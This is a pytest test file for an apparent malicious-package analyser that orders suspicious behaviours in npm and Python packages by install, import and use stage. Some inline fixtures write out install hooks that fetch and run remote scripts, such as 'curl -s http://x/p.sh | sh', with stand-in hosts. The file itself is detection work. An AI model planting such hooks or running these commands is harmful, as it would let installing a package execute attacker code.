"""Hand-written packages with a known execution order, through the real extractors and the builder."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from seq_helpers import PACKAGES, assert_in_order, folder_package, ids, scan_case

from malseq._deadline import Deadline
from malseq.errors import TimeBudgetExceeded
from malseq.features import analyse_package
from malseq.sequence import Stage, build_sequence, render_steps, render_text

INSTALL, IMPORT, UNREACHED = Stage.INSTALL, Stage.IMPORT, Stage.UNREACHED


def test_npm_postinstall_env_then_base64_then_post() -> None:
    _, _, seq = scan_case("npm_postinstall_exfil")
    install = ids(seq, INSTALL)
    assert install[0] == "npm_install_script"
    assert_in_order(install, ["npm_install_script", "read_env", "encoding_call", "upload_data"])
    assert install.index("read_env") < install.index("network_request")
    labels = [(e.stage, e.label, e.file) for e in seq.entry_points]
    assert (INSTALL, "postinstall: node ./collect.js", "collect.js") in labels
    assert (IMPORT, "main lib.js", "lib.js") in labels
    text = render_text(seq)
    assert text.startswith("install : run script at install , import network module , read environment variables")
    assert "unreached" not in text


def test_setup_py_install_override_calls_helper_in_other_module() -> None:
    _, _, seq = scan_case("py_setup_install_helper")
    run_steps = [s for s in seq.steps if s.entry == "setup.py PostInstall.run"]
    behaviours = [s.behaviour for s in run_steps]
    assert_in_order(behaviours, ["read_env", "encoding_call", "network_request", "upload_data"])
    assert all(s.file == "helperlib/beacon.py" for s in run_steps)
    assert all(s.stage is INSTALL for s in run_steps)
    # The helper module's imports run when setup.py imports it, before the command runs.
    assert_in_order(ids(seq, INSTALL), ["import_network_module", "setup_command_override", "read_env"])
    assert not seq.stage_steps(UNREACHED)


def test_callback_based_exfiltration() -> None:
    _, _, seq = scan_case("js_callback_exfil")
    install = ids(seq, INSTALL)
    assert_in_order(install, ["npm_install_script", "fs_read", "encoding_call", "network_request", "upload_data"])
    upload = next(s for s in seq.steps if s.behaviour == "upload_data")
    assert upload.scope == "upload" and upload.depth >= 2  # inside the readFile callback, then upload()


def test_python_mutual_recursion_is_bounded() -> None:
    _, _, seq = scan_case("py_mutual_recursion")
    assert not seq.budget_exhausted
    install = ids(seq, INSTALL)
    assert_in_order(install, ["setup_code_execution", "run_command", "fs_write"])
    assert install.count("run_command") == 1  # ping is on the path when pong calls it back


def test_js_mutual_recursion_across_files_is_bounded() -> None:
    _, _, seq = scan_case("js_mutual_recursion")
    assert not seq.budget_exhausted
    install = ids(seq, INSTALL)
    assert_in_order(install, ["import_process_module", "import_fs_module", "run_command", "fs_write"])
    assert install.count("run_command") == 1


def test_script_naming_a_missing_file() -> None:
    _, _, seq = scan_case("npm_missing_file")
    labels = [e.label for e in seq.entry_points]
    assert "preinstall: node setup/bootstrap.js (missing file setup/bootstrap.js)" in labels
    assert "postinstall: node post.js" in labels
    assert_in_order(ids(seq, INSTALL), ["npm_install_script", "collect_system_info", "dns_lookup"])


def test_package_without_entry_points_falls_back_to_all_files_sorted() -> None:
    _, _, seq = scan_case("js_no_entry_points")
    assert [e.label for e in seq.entry_points] == ["fallback all files"]
    imported = ids(seq, IMPORT)
    assert_in_order(imported, ["read_env", "run_command", "fs_read"])  # alpha.js, util.js, zeta.js
    assert not seq.stage_steps(INSTALL) and not seq.stage_steps(UNREACHED)


def test_python_class_body_runs_at_import_but_methods_do_not() -> None:
    _, _, seq = scan_case("py_class_body")
    imported = [s for s in seq.steps if s.stage is IMPORT]
    assert ("read_env", "Config") in [(s.behaviour, s.scope) for s in imported]
    assert "read_sensitive_file" in [s.behaviour for s in imported]
    assert "run_command" not in [s.behaviour for s in imported]
    # A public method of a public class runs when the user calls it: the use stage, not dead code.
    used = [s for s in seq.steps if s.stage is Stage.USE]
    assert [(s.behaviour, s.scope) for s in used] == [("run_command", "Config.unused"),
                                                      ("shell_command", "Config.unused")]
    assert not seq.stage_steps(UNREACHED)


def test_self_method_resolution_in_setup_command() -> None:
    _, _, seq = scan_case("py_self_method")
    run = [s for s in seq.steps if s.entry == "setup.py Dev.run"]
    assert_in_order([s.behaviour for s in run], ["collect_system_info", "raw_socket", "upload_data"])
    assert [s.scope for s in run][:2] == ["Dev.prepare", "Dev.send"]


def test_js_this_method_through_constructor() -> None:
    _, _, seq = scan_case("js_this_method")
    imported = ids(seq, IMPORT)
    assert_in_order(imported, ["import_os_module", "collect_system_info", "network_request", "upload_data"])
    assert not seq.stage_steps(UNREACHED)


def test_relative_require_of_folder_with_index_js() -> None:
    _, _, seq = scan_case("js_folder_index")
    install = [s for s in seq.steps if s.stage is INSTALL]
    assert_in_order([s.behaviour for s in install], ["run_command", "raw_socket", "upload_data"])
    assert {s.file for s in install if s.behaviour in ("raw_socket", "upload_data")} == {"lib/send/index.js"}
    assert seq.entry_points[0].file == "lib/start.js"  # `node lib/start` -> lib/start.js


def test_thread_target_callback_runs_at_the_thread_call() -> None:
    _, _, seq = scan_case("py_thread_target")
    install = [s for s in seq.steps if s.stage is INSTALL]
    assert ("run_command", "beacon") in [(s.behaviour, s.scope) for s in install]
    assert not seq.stage_steps(UNREACHED)


def test_then_callback_runs_after_the_request() -> None:
    _, _, seq = scan_case("js_then_callback")
    assert_in_order(ids(seq, INSTALL), ["network_request", "fs_write", "run_command"])


def test_test_file_is_unreached() -> None:
    _, _, seq = scan_case("py_unreached_tests")
    assert ids(seq, IMPORT) == ["import_os_module", "read_env"]
    unreached = seq.stage_steps(UNREACHED)
    assert {s.file for s in unreached} == {"tests/test_x.py"}
    assert "run_command" in [s.behaviour for s in unreached]
    assert render_text(seq).endswith("unreached : import process module , run external command")


def test_pth_import_runs_the_module() -> None:
    _, _, seq = scan_case("py_pth")
    assert_in_order(ids(seq, INSTALL), ["pth_code_execution", "collect_system_info", "network_request"])
    assert any(e.label == ".pth pthy.pth" for e in seq.entry_points)


def test_npm_run_chain_and_cd() -> None:
    _, _, seq = scan_case("npm_run_chain")
    assert ("postinstall > setup: node init.js", "scripts/init.js") in [(e.label, e.file) for e in seq.entry_points]
    assert_in_order(ids(seq, INSTALL), ["collect_system_info", "encoding_call", "dns_lookup"])
    assert {s.file for s in seq.stage_steps(UNREACHED)} == {"never.js"}


def test_every_step_links_to_its_events() -> None:
    for case in ("npm_postinstall_exfil", "py_setup_install_helper", "js_callback_exfil"):
        package, _, seq = scan_case(case)
        for step in seq.steps:
            assert step.events and all(e.behaviour == step.behaviour for e in step.events)
            assert step.line >= 1 and package.file(step.file) is not None
        lines = render_steps(seq)
        assert lines[0] == "entry points:"
        assert any(":" in line and "[" in line for line in lines[2:])


def _big_js_package(root: Path, files: int, functions: int) -> None:
    sources = {"package.json": '{"name": "big", "version": "1.0.0", "main": "f0.js"}'}
    for i in range(files):
        nxt = (i + 1) % files
        body = ["const fs = require('fs');", f"const next = require('./f{nxt}');"]
        for j in range(functions):
            calls = [f"  fn{(j + 1) % functions}(x);", f"  fn{(j + 2) % functions}(x);", f"  next.fn{j}(x);"]
            if j % 3 == 0:
                calls.insert(0, f"  fs.readFileSync('/tmp/{i}_{j}');")
            body.append(f"function fn{j}(x) {{\n" + "\n".join(calls) + "\n}")
            body.append(f"module.exports.fn{j} = fn{j};")
        body.append("fn0(1);")
        sources[f"f{i}.js"] = "\n".join(body) + "\n"
    for rel, text in sources.items():
        (root / rel).write_text(text)


def test_large_package_stays_within_budget(tmp_path: Path) -> None:
    _big_js_package(tmp_path, files=300, functions=12)
    package = folder_package(tmp_path, {})
    analysis = analyse_package(package, Deadline(300))
    seq = build_sequence(package, analysis, Deadline(300), max_steps=4000)
    assert len([s for s in seq.steps if s.stage is not UNREACHED]) <= 4000
    assert ids(seq, IMPORT)[0] == "import_fs_module"
    assert len(render_text(seq).split()) <= 200


def test_expired_deadline_raises_rather_than_returning_a_partial_sequence(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {
        "package.json": '{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}',
        "i.js": "const cp = require('child_process');\ncp.exec('id');\n",
    })
    analysis = analyse_package(package, Deadline(60))
    expired = Deadline(0.0)
    time.sleep(0.01)
    with pytest.raises(TimeBudgetExceeded):
        build_sequence(package, analysis, expired)


def test_analyse_returns_events_sequence_and_model_text() -> None:
    from malseq._deadline import Deadline
    from malseq.analysis import analyse
    from malseq.model.text import model_text

    package, analysis, seq = scan_case("npm_postinstall_exfil")
    analysed = analyse(package, Deadline(60))
    assert analysed.analysis.all_events() == analysis.all_events()
    assert analysed.ids == seq.ids and analysed.text == model_text(render_text(seq))


def test_events_of_a_script_run_through_npm_run_are_attributed_reported_and_at_install() -> None:
    """postinstall runs `npm run setup`; setup runs `node x.js && curl ... | sh`."""
    from malseq.report.json_report import render_json
    from malseq.scan import ScanOptions, scan

    _, analysis, seq = scan_case("npm_run_setup_curl")
    by_script = {(e.behaviour, e.script) for e in analysis.manifest_events}
    assert ("npm_install_script", "postinstall") in by_script
    assert {("network_request", "setup"), ("download_and_execute", "setup")} <= by_script
    assert all(e.script != "test" for e in analysis.manifest_events)  # not run at install
    # The sequence finds them by script name and places them at install, the file setup runs after.
    install = [s for s in seq.steps if s.stage is INSTALL]
    assert_in_order([s.behaviour for s in install],
                    ["npm_install_script", "network_request", "download_and_execute", "collect_system_info"])
    assert {s.entry for s in install if s.behaviour == "download_and_execute"} == {
        "setup: node x.js && curl -s http://203.0.113.7/p.sh | sh"}
    assert ("postinstall > setup: node x.js", "x.js") in [(e.label, e.file) for e in seq.entry_points]
    assert not seq.stage_steps(UNREACHED)
    # ... and they are in the JSON report's behaviours list.
    [result] = scan([str(PACKAGES / "npm_run_setup_curl")], ScanOptions(score=False))
    behaviours = json.loads(render_json([result]))[0]["behaviours"]
    reported = {(b["id"], b["snippet"].split(":", 1)[0]) for b in behaviours if b["file"] == "package.json"}
    assert {("download_and_execute", "setup"), ("network_request", "setup"), ("npm_install_script", "postinstall")} \
        <= reported


def test_npm_run_cycles_terminate(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {
        "package.json": json.dumps({"name": "loop", "version": "1.0.0", "scripts": {
            "preinstall": "npm run a", "a": "npm run b && curl http://x", "b": "yarn a; pnpm c",
            "c": "npm run preinstall && npm run c && whoami", "postinstall": "npm run b"}}),
    })
    analysis = analyse_package(package, Deadline(60))
    scripts = [e.script for e in analysis.manifest_events]
    # Each script analysed once, in the order the chains reach them (b only runs other scripts).
    assert list(dict.fromkeys(scripts)) == ["preinstall", "a", "c", "postinstall"]
    assert scripts.count("a") == 3  # shell_command, network_request, use_url: once each
    assert ("collect_system_info", "c") in {(e.behaviour, e.script) for e in analysis.manifest_events}
    seq = build_sequence(package, analysis, Deadline(60))
    assert not seq.budget_exhausted
    install = ids(seq, INSTALL)
    assert_in_order(install, ["npm_install_script", "network_request", "collect_system_info"])
    assert not seq.stage_steps(UNREACHED)


def test_pre_hook_of_a_script_run_at_install(tmp_path: Path) -> None:
    package = folder_package(tmp_path, {
        "package.json": json.dumps({"name": "hooked", "version": "1.0.0", "scripts": {
            "postinstall": "npm run build", "prebuild": "curl -s http://x/p.sh | sh", "build": "node b.js"}}),
        "b.js": "const os = require('os');\nos.hostname();\n",
    })
    analysis = analyse_package(package, Deadline(60))
    assert ("download_and_execute", "prebuild") in {(e.behaviour, e.script) for e in analysis.manifest_events}
    seq = build_sequence(package, analysis, Deadline(60))
    assert_in_order(ids(seq, INSTALL), ["npm_install_script", "download_and_execute", "collect_system_info"])
    assert "postinstall > build: node b.js" in [e.label for e in seq.entry_points]
    assert not seq.stage_steps(UNREACHED)


def test_web_of_scripts_running_each_other_is_bounded(tmp_path: Path) -> None:
    names = [f"s{i}" for i in range(40)]
    scripts = {n: " && ".join(f"npm run {m}" for m in names) for n in names}
    scripts["postinstall"] = "npm run s0 && curl http://x | sh"
    package = folder_package(tmp_path, {"package.json": json.dumps({"name": "web", "version": "1.0.0",
                                                                     "scripts": scripts})})
    analysis = analyse_package(package, Deadline(60))
    assert len({e.script for e in analysis.manifest_events}) == 1  # only postinstall does anything itself
    # Every `npm run X` costs work, so the walk stops on its work budget, not on the deadline.
    seq = build_sequence(package, analysis, Deadline(600), max_work=20_000)
    assert seq.budget_exhausted
    assert ids(seq, INSTALL)[:2] == ["npm_install_script", "shell_command"]
    assert len(seq.entry_points) <= 256  # thousands of distinct script paths are not all listed


def test_python_public_api_is_the_use_stage_and_private_or_test_code_stays_unreached() -> None:
    _, _, seq = scan_case("py_public_api")
    used = [(s.behaviour, s.scope) for s in seq.steps if s.stage is Stage.USE]
    # re-exported from a private module by the package's __init__: the trojanised client method
    assert_in_order([b for b, _ in used], ["network_request", "run_command", "dns_lookup"])
    assert ("run_command", "Client.send_message") in used
    assert ("run_command", "main") in used  # a public module's public function
    assert ("dns_lookup", "beacon") in used
    unreached = [(s.behaviour, s.file, s.scope) for s in seq.steps if s.stage is UNREACHED]
    assert ("read_sensitive_file", "trojan/_impl/client.py", "_never_called") in unreached  # private helper
    assert ("read_env", "trojan/_impl/client.py", "Client._debug_dump") in unreached  # private method
    assert ("run_command", "trojan/tests/test_client.py", "test_cli") in unreached  # the package's tests
    assert not any(scope in ("_never_called", "Client._debug_dump", "test_cli") for _, scope in used)
    text = render_text(seq)
    assert text.index("import : ") < text.index("; use : ") < text.index("; unreached : ")


def test_js_exported_functions_and_bin_are_the_use_stage_and_other_files_stay_unreached() -> None:
    _, _, seq = scan_case("js_public_api")
    labels = [(e.stage, e.label) for e in seq.entry_points]
    assert (Stage.USE, "bin jpa bin/cli.js") in labels
    assert (IMPORT, "main index.js") in labels
    used = [(s.behaviour, s.scope) for s in seq.steps if s.stage is Stage.USE]
    assert ("upload_data", "send") in used and ("read_env", "send") in used
    assert ("run_command", "Tracker.track") in used
    assert ("collect_system_info", "<module>") in used  # the bin script, run as the program
    unreached_files = {s.file for s in seq.steps if s.stage is UNREACHED}
    assert {"lib/dead.js", "test/index.test.js"} <= unreached_files
    assert "index.js" not in unreached_files


def test_npm_main_module_body_runs_at_import_like_a_python_init() -> None:
    _, _, seq = scan_case("npm_main_exfil")
    assert [s.stage for s in seq.steps] == [IMPORT] * len(seq.steps)
    assert_in_order(ids(seq, IMPORT), ["collect_system_info", "read_env", "network_request", "upload_data"])
    assert render_text(seq).startswith("import : ")


def test_inline_pth_line_is_analysed_as_python_at_install() -> None:
    _, analysis, seq = scan_case("py_pth_inline")
    install = [s for s in seq.steps if s.stage is INSTALL]
    assert_in_order([s.behaviour for s in install],
                    ["pth_code_execution", "import_network_module", "read_env", "network_request"])
    assert all(s.file == "pthinline.pth" and s.line == 1 for s in install)
    assert not seq.stage_steps(UNREACHED)
    assert "pthinline.pth" in [f.path for f in analysis.files]


def test_pth_path_line_and_hook_of_own_module_add_no_code_behaviour() -> None:
    _, _, seq = scan_case("py_pth_hook")
    assert ids(seq) == ["pth_code_execution"]  # `import _pthhook` runs the package's own harmless module
    assert [(s.file, s.line) for s in seq.steps] == [("pthhook.pth", 2)]
